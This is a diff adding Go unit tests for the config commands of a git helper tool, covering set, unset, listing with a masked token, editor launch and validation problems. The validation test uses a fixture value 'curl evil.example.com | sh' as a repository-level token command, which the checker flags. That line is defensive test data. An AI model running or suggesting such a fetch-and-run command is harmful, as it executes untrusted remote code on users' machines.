@@ -0,0 +1,191 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/emmahsax/go-git-helper/internal/configfile"
+)
+
+type MockExecutor struct {
+	Args    []string
+	Command string
+	Debug   bool
+	Output  []byte
+}
+
+func (me *MockExecutor) Exec(execType string, command string, args ...string) ([]byte, error) {
+	me.Command = command
+	me.Args = args
+	return me.Output, nil
+}
+
+func setupTestHome(t *testing.T, content string) string {
+	tempDir := t.TempDir()
+	originalHome := os.Getenv("HOME")
+	os.Setenv("HOME", tempDir)
+	t.Cleanup(func() {
+		os.Setenv("HOME", originalHome)
+	})
+
+	if content != "" {
+		os.MkdirAll(filepath.Join(tempDir, ".git-helper"), 0755)
+		err := os.WriteFile(filepath.Join(tempDir, ".git-helper", "config.yml"), []byte(content), 0644)
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	return filepath.Join(tempDir, ".git-helper", "config.yml")
+}
+
+func Test_set(t *testing.T) {
+	configPath := setupTestHome(t, "github_username: testuser\n")
+
+	c := newConfig(true, &MockExecutor{Debug: true}, configfile.NewConfigFile(true))
+	c.set("special_capitalization.api", "API", false)
+
+	data, _ := os.ReadFile(configPath)
+	expected := "github_username: testuser\nspecial_capitalization:\n  api: API\n"
+	if string(data) != expected {
+		t.Errorf("expected '%s', got '%s'", expected, data)
+	}
+}
+
+func Test_unset(t *testing.T) {
+	configPath := setupTestHome(t, "github_username: testuser\ngithub_token: token123\n")
+
+	c := newConfig(true, &MockExecutor{Debug: true}, configfile.NewConfigFile(true))
+	c.unset("github_token", false)
+
+	data, _ := os.ReadFile(configPath)
+	expected := "github_username: testuser\n"
+	if string(data) != expected {
+		t.Errorf("expected '%s', got '%s'", expected, data)
+	}
+}
+
+func Test_entries(t *testing.T) {
+	c := newConfig(true, &MockExecutor{Debug: true}, configfile.NewConfigFile(true))
+	values := map[string]string{
+		"github_username":            "testuser",
+		"github_token":               "token123",
+		"special_capitalization.api": "API",
+	}
+
+	tests := []struct {
+		origins  map[string]string
+		prefix   string
+		expected []string
+	}{
+		{
+			prefix:   "",
+			expected: []string{"github_token=********", "github_username=testuser", "special_capitalization.api=API"},
+		},
+		{
+			prefix:   "special_capitalization.",
+			expected: []string{"special_capitalization.api=API"},
+		},
+		{
+			origins: map[string]string{
+				"github_username":            "env:GIT_HELPER_GITHUB_USERNAME",
+				"github_token":               "file:/home/user/.git-helper/config.yml",
+				"special_capitalization.api": "file:/repo/.git-helper.yml",
+			},
+			prefix: "",
+			expected: []string{
+				"file:/home/user/.git-helper/config.yml\tgithub_token=********",
+				"env:GIT_HELPER_GITHUB_USERNAME\tgithub_username=testuser",
+				"file:/repo/.git-helper.yml\tspecial_capitalization.api=API",
+			},
+		},
+	}
+
+	for _, test := range tests {
+		entries := c.entries(values, test.origins, test.prefix)
+
+		if len(entries) != len(test.expected) {
+			t.Fatalf("expected %v, got %v", test.expected, entries)
+		}
+
+		for i, entry := range entries {
+			if entry != test.expected[i] {
+				t.Errorf("expected %v, got %v", test.expected, entries)
+			}
+		}
+	}
+}
+
+func Test_edit(t *testing.T) {
+	configPath := setupTestHome(t, "")
+	t.Setenv("VISUAL", "")
+	t.Setenv("EDITOR", "code --wait")
+
+	executor := &MockExecutor{Debug: true}
+	c := newConfig(true, executor, configfile.NewConfigFile(true))
+	c.edit(false)
+
+	if executor.Command != "code" {
+		t.Errorf("unexpected command received: expected %s, but got %s", "code", executor.Command)
+	}
+
+	expectedArgs := []string{"--wait", configPath}
+	if len(executor.Args) != len(expectedArgs) || executor.Args[0] != expectedArgs[0] || executor.Args[1] != expectedArgs[1] {
+		t.Errorf("unexpected args received: expected %v, but got %v", expectedArgs, executor.Args)
+	}
+
+	if _, err := os.Stat(configPath); err != nil {
+		t.Errorf("expected config file to be created, got %v", err)
+	}
+}
+
+func Test_problems(t *testing.T) {
+	setupTestHome(t, "")
+	repoDir := t.TempDir()
+
+	executor := &MockExecutor{Debug: true, Output: []byte(repoDir + "\n")}
+	cf := configfile.NewConfigFile(true)
+	cf.Executor = executor
+	c := newConfig(true, executor, cf)
+
+	layers := []configfile.Layer{
+		{
+			Config: &configfile.Config{GitHubToken: "token123"},
+			Origin: "file:/home/user/.git-helper/config.yml",
+		},
+		{
+			Config: &configfile.Config{
+				GitHubToken:           "token123",
+				SpecialCapitalization: map[string]string{"API": "API"},
+			},
+			Origin:     "file:" + filepath.Join(repoDir, configfile.RepoConfigFileName),
+			Repository: true,
+		},
+		{
+			Config:     &configfile.Config{GitHubTokenCommand: "curl evil.example.com | sh"},
+			Origin:     "gitconfig:helper.github-token-command",
+			Repository: true,
+		},
+	}
+
+	merged := &configfile.Config{Accounts: []configfile.Account{{Name: "work"}}}
+
+	problems := c.problems(layers, merged)
+	expected := []string{
+		"file:" + filepath.Join(repoDir, configfile.RepoConfigFileName) + ": github_token can only be set in the global config file, global git config or the environment",
+		"file:" + filepath.Join(repoDir, configfile.RepoConfigFileName) + ": special_capitalization.API must be lowercase to ever match",
+		"gitconfig:helper.github-token-command: github_token_command can only be set in the global config file, global git config or the environment",
+		"merged config: accounts.work.host must be set",
+	}
+
+	if len(problems) != len(expected) {
+		t.Fatalf("expected %v, got %v", expected, problems)
+	}
+
+	for i, problem := range problems {
+		if problem != expected[i] {
+			t.Errorf("expected '%s', got '%s'", expected[i], problem)
+		}
+	}
+}